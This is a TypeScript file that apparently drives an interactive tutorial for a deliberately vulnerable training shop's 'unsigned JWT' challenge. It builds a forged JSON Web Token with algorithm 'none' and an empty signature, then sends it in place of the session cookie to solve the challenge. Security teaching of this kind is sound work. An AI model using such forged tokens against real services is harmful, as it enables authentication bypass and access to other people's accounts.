import { account } from '../script/anchors.ts';
import type { Script } from '../script/script.ts';
import { namingAccount, read, task } from '../script/steps.ts';
import { loginMenu, lookAtResponse, openWorkbench, requestText, send, showRepeater } from '../script/workbench.ts';

const header = '{"alg":"none","typ":"JWT"}';
/** The customer whom the challenge makes up. No account has this address. */
const payload = '{"data":{"email":"jwtn3d@juice-sh.op"}}';

/** Returns a part of a token: base64url without padding. */
function encoded(part: string): string {
  return btoa(part).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
}

/** A token that its reader believes without a signature: the part behind the second dot is empty. */
const token = `${encoded(header)}.${encoded(payload)}.`;

/** A path that needs the token in the header, which the page sends for most of its requests. */
const myCards = requestText({ line: 'GET /api/Cards', headers: ['Accept: application/json'] });

/** A forged JSON Web Token (ui-learning.md 14.16). */
export const unsignedJwt: Script = [
  read('TUTORIAL_UNSIGNED_JWT_1', 20_000),
  task('TUTORIAL_UNSIGNED_JWT_2', account, { kind: 'loggedIn' }, namingAccount),
  openWorkbench,
  showRepeater,
  task(
    'TUTORIAL_UNSIGNED_JWT_5',
    ['#repeater-request'],
    { kind: 'message', of: 'request', matching: /GET \/api\/Cards HTTP/ },
    { payload: { payload: myCards } },
  ),
  task('TUTORIAL_UNSIGNED_JWT_6', loginMenu, {
    kind: 'message',
    of: 'request',
    matching: /Authorization: ?Bearer ?ey/,
  }),
  task(
    'TUTORIAL_UNSIGNED_JWT_7',
    ['#repeater-request'],
    { kind: 'message', of: 'request', matching: /^(?!.*Cookie:)/s },
    { cookie: { code: 'Cookie' }, authorization: { code: 'Authorization' } },
  ),
  send('TUTORIAL_UNSIGNED_JWT_8', /200 OK/),
  lookAtResponse('TUTORIAL_UNSIGNED_JWT_9', 25_000),
  send('TUTORIAL_UNSIGNED_JWT_10', /401 Unauthorized/),
  lookAtResponse('TUTORIAL_UNSIGNED_JWT_11', 20_000),
  lookAtResponse('TUTORIAL_UNSIGNED_JWT_12', 25_000, { header: { code: header }, payload: { code: payload } }),
  task(
    'TUTORIAL_UNSIGNED_JWT_13',
    ['#repeater-send'],
    { kind: 'solved', challenge: 'jwtUnsignedChallenge' },
    { payload: { payload: token }, bearer: { code: 'Bearer' } },
  ),
  read('TUTORIAL_UNSIGNED_JWT_14', 20_000),
];
